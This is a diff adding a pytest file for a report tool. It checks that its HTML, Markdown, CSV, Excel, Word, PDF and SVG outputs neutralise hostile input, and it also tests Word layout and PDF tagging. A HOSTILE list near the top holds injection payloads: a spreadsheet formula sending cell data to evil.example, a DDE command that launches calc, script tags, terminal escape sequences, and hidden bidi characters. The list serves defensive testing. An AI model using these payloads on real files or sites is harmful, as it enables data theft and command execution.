@@ -1,0 +1,292 @@
+"""Every form of a page: what each has that it was made for, and that nothing from outside acts in any."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from html.parser import HTMLParser
+from pathlib import Path
+from xml.etree import ElementTree as ET
+
+import docx
+import openpyxl
+import pytest
+from docx.shared import Mm
+
+from auditui.cli.context import Format, PageFormat
+from auditui.core.errors import AuditError
+from auditui.report import word_parts
+from auditui.report.document import Document, Facts, Figure, Heading, NewPage, Paragraph, Room
+from auditui.report.forms import FORMS, written
+from auditui.report.pdf import as_pdf, as_typst
+from auditui.report.table import Table, columns
+from auditui.report.word_parts import column_widths
+
+SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20" font-family="sans-serif" font-size="11">
+<title>Chart</title>
+<text x="2" y="15">M</text>
+</svg>"""
+W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+
+#: What somebody may write into any field: formulas, markup, links, pictures, what acts on a terminal or hides what is read.
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "&lt;b&gt; &amp; <b>bold</b>",
+    "[a link](http://evil.example/)",
+    "![a picture](http://evil.example/p.png)",
+    "<http://evil.example/>",
+    "`code` | a cell | ~~gone~~ # head",
+    "\x1b]52;c;aGVsbG8=\x07",
+    "\x1b[2J\x9b31m",
+    "a\u202eb\u200bc\ufeff",
+    "]]>--></w:t></svg>",
+    "_x0041_ {{ 7*7 }} ${x} #{y}",
+)
+
+
+def page(text: str) -> tuple[Document, Table]:
+    table = Table(text, columns("a: A | b: B"), ((text, 1), (text, -2)), (text,))
+    blocks = (
+        Heading(1, text),
+        Paragraph(text, "strong"),
+        Facts(((text, text),)),
+        table,
+        Figure(SVG, ("chart",), text),
+        Room(text, 2),
+    )
+    return Document(text, blocks, SVG, (text,)), table
+
+
+class Tags(HTMLParser):
+    """Every tag of a page with the names of its attributes but that of its look."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.found: set[tuple[str, tuple[str, ...]]] = set()
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.add((tag, tuple(name for name, _ in attrs if name != "class")))
+
+
+def unescaped(markdown: str) -> str:
+    """Markdown without what is escaped in it, and without its blocks of plain text."""
+    return re.sub(r"\\.", "", re.sub(r"```text\n.*?```", "", markdown, flags=re.DOTALL))
+
+
+CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_from_outside_acts_in_any_form(text: str) -> None:
+    document, table = page(text)
+    plain = page("plain")
+    forms = {form: written(document, table, form) for form in FORMS}
+
+    html = forms["html"].decode()
+    assert Tags(html).found == Tags(written(*plain, "html").decode()).found
+    assert not CONTROLS.search(html)
+
+    markdown = forms["md"].decode()
+    assert not CONTROLS.search(markdown)
+    assert not re.search(r"!?\[[^\]]*\]\(|<[a-z/!]|`(?!``)", unescaped(markdown))
+    assert unescaped(markdown).count("|") == unescaped(written(*plain, "md").decode()).count("|")
+
+    assert not CONTROLS.search(forms["table"].decode())
+
+    rows = list(csv.reader(io.StringIO(forms["csv"].decode(), newline="")))[1:]
+    assert [row[1] for row in rows] == ["1", "-2"]
+    for first, _ in rows:
+        assert not first.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+        assert first.removeprefix("'") == text
+
+    assert json.loads(forms["json"]) == [{"a": text, "b": 1}, {"a": text, "b": -2}]
+
+    sheet = openpyxl.load_workbook(io.BytesIO(forms["xlsx"])).worksheets[0]
+    assert {(cell.data_type, cell.hyperlink) for row in sheet.iter_rows() for cell in row} <= {
+        ("s", None),
+        ("n", None),
+    }
+    assert not any(CONTROLS.search(str(cell.value)) for row in sheet.iter_rows() for cell in row)
+
+    for name in ("docx", "xlsx"):
+        with zipfile.ZipFile(io.BytesIO(forms[name])) as parts:
+            for part in parts.namelist():
+                if part.endswith((".xml", ".rels")):
+                    ET.fromstring(parts.read(part))  # noqa: S314 - our own
+                assert b"evil.example" not in parts.read(part) or part in CONTENT, part
+    assert forms["pdf"].startswith(b"%PDF")
+    assert b"/URI" not in forms["pdf"]
+    ET.fromstring(forms["svg"])  # noqa: S314 - our own
+    assert not re.search(
+        "<script|<img|href", re.sub(r"<text[^>]*>.*?</text>|<title>.*?</title>", "", forms["svg"].decode())
+    )
+
+
+#: Where text may stand in an Office file; no relation leads outside.
+CONTENT = (
+    *("word/document.xml", "word/footer1.xml", "docProps/core.xml"),
+    *("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "docProps/app.xml"),
+)
+
+
+def test_commands_offer_the_forms_of_the_registry() -> None:
+    assert [form.value for form in PageFormat] == list(FORMS)
+    assert set(Format) <= {form for form in FORMS if FORMS[form].is_text}
+
+
+# Word.
+
+
+def word(
+    *blocks: object, template: Path | None = None, beneath: tuple[str, ...] = ("Of all audits.", "Printed.")
+) -> docx.document.Document:
+    document = Document("A page", tuple(blocks), "", beneath)  # type: ignore[arg-type] # blocks of any kind
+    return docx.Document(io.BytesIO(written(document, Table("", (), ()), "docx", template)))
+
+
+TABLE = Table(
+    "Measures",
+    columns("measure: Measure | met: Met | percent: %"),
+    (("A health practitioner took part in the strategy discussion", "357 of 679", 52.5),),
+)
+
+
+def test_a_word_page_is_a4_in_british_english_with_our_names_and_the_day_it_was_made() -> None:
+    made = word(Paragraph("Text"))
+    section = made.sections[0]
+    assert section.page_width is not None
+    assert section.page_height is not None
+    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
+    assert made.styles["Normal"].element.find(f"{W}rPr/{W}lang").get(f"{W}val") == "en-GB"
+    assert made.core_properties.language == "en-GB"
+    assert made.core_properties.created is not None
+    assert made.core_properties.created.year >= 2026
+
+
+def test_every_page_says_below_what_it_is_of_when_it_was_printed_and_its_number() -> None:
+    made = word(Paragraph("Text"), Paragraph("Printed.", "small"))
+    footer = made.sections[0].footer.paragraphs[0]
+    assert footer.text.startswith("Of all audits. Printed. Page ")
+    codes = [code.text for code in footer._p.iter(f"{W}instrText")]
+    assert codes == ["PAGE", "NUMPAGES"]
+    assert "Printed." not in [paragraph.text for paragraph in made.paragraphs], "once is enough"
+    said = (
+        word(Paragraph("Better.", "strong"), beneath=("Better.", "Printed.")).sections[0].footer.paragraphs[0]
+    )
+    assert said.text.startswith("Printed. Page ")
+
+
+def test_a_table_has_a_caption_a_head_on_every_page_whole_rows_and_figures_to_the_right() -> None:
+    made = word(TABLE)
+    grid = made.tables[0]
+    assert [p.text for p in made.paragraphs if p.style is not None and p.style.name == "Caption"] == [
+        "Measures"
+    ]
+    assert grid.rows[0]._tr.find(f"{W}trPr/{W}tblHeader") is not None
+    assert all(row._tr.find(f"{W}trPr/{W}cantSplit") is not None for row in grid.rows)
+    assert [cell.paragraphs[0].alignment for cell in grid.rows[1].cells] == [None, None, 2]
+
+
+def test_columns_are_as_wide_as_their_longest_word_and_the_page_is_full_at_most() -> None:
+    heads = ["Measure", "Now", "Verdict"]
+    rows = [
+        [
+            "A health practitioner took part in the strategy discussion and what it said was used",
+            "357 of 679",
+            "no clear change",
+        ]
+    ]
+    widths = column_widths(heads, rows, 5_000_000)
+    assert sum(widths) <= 5_000_000
+    assert all(
+        width >= len(max(cell.split(), key=len)) * 64_000 for width, cell in zip(widths, rows[0], strict=True)
+    )
+    assert widths[1] >= len("357 of 679") * 64_000, "a short cell stays on one line"
+    narrow = column_widths(heads * 6, [rows[0] * 6], 5_000_000)
+    assert sum(narrow) <= 5_000_000
+
+
+def test_a_chart_is_a_picture_with_its_words_and_characters_where_none_can_be_made(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    figure = Figure(SVG, ("66 % ●",), "Better: 66 % against 50 %.")
+    made = word(figure)
+    (shape,) = made.inline_shapes
+    assert shape._inline.docPr.get("descr") == "Better: 66 % against 50 %."
+    assert made.part.related_parts[shape._inline.graphic.graphicData.pic.blipFill.blip.embed].blob.startswith(
+        b"\x89PNG"
+    )
+    monkeypatch.setattr(word_parts, "_draws_text", lambda: False)
+    made = word(figure)
+    assert len(made.inline_shapes) == 0
+    assert {"66 % ●", "Better: 66 % against 50 %."} <= {paragraph.text for paragraph in made.paragraphs}
+
+
+def test_a_councils_template_gives_paper_styles_and_header_and_loses_its_own_text(tmp_path: Path) -> None:
+    template = docx.Document()
+    template.add_paragraph("Replace this text")
+    template.sections[0].header.paragraphs[0].text = "Example Council"
+    template.sections[0].page_width = Mm(300)
+    template.styles["Heading 1"].font.name = "Georgia"
+    template.save(str(tmp_path / "council.docx"))
+    made = word(Heading(1, "Head"), TABLE, NewPage(), template=tmp_path / "council.docx")
+    assert made.sections[0].header.paragraphs[0].text == "Example Council"
+    assert made.sections[0].page_width == template.sections[0].page_width
+    assert made.styles["Heading 1"].font.name == "Georgia"
+    assert "Replace this text" not in [paragraph.text for paragraph in made.paragraphs]
+
+
+def test_what_is_no_template_is_one_line(tmp_path: Path) -> None:
+    (tmp_path / "a.docx").write_text("no zip")
+    for path in (tmp_path / "a.docx", tmp_path / "none.docx", tmp_path):
+        with pytest.raises(AuditError, match="is no Word file"):
+            word(template=path)
+    with pytest.raises(AuditError, match="is for Word files"):
+        written(*page("x"), "html", tmp_path / "a.docx")
+
+
+# PDF.
+
+
+def test_a_pdf_is_tagged_in_british_english_with_its_title_heads_and_the_words_of_its_charts() -> None:
+    figure = Figure(SVG, ("66 % ●",), "Better: 66 % against 50 %.")
+    document = Document(
+        "A page",
+        (Heading(1, "Head"), TABLE, figure, Paragraph("Printed.", "small")),
+        "",
+        ("Of all.", "Printed."),
+    )
+    typed = as_typst(document)
+    assert '#set document(title: "A page"' in typed
+    assert 'lang: "en", region: "GB"' in typed
+    assert 'alt: "Better: 66 % against 50 %."' in typed
+    assert "table.header(" in typed
+    assert typed.count('"Printed.') == 0, "the footer says it on every page"
+    assert "Of all. Printed. " in typed
+    made = as_pdf(document)
+    assert b"pdfuaid:part" in made
+    strange = as_pdf(Document("A page \U000f0000", (), "", ()))
+    assert b"pdfuaid:part" not in strange
+    assert b"/StructTreeRoot" in strange
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_text_is_markup_to_what_sets_a_pdf(text: str) -> None:
+    """Outside the strings the page is the same whatever stands in them."""
+    assert outside(as_typst(page(text)[0])) == outside(as_typst(page("plain")[0]))
+
+
+def outside(typed: str) -> str:
+    """Without strings, and without what hangs on their length."""
+    return re.sub(r'"(?:[^"\\]|\\.)*"', '""', typed).replace("1fr", "auto")
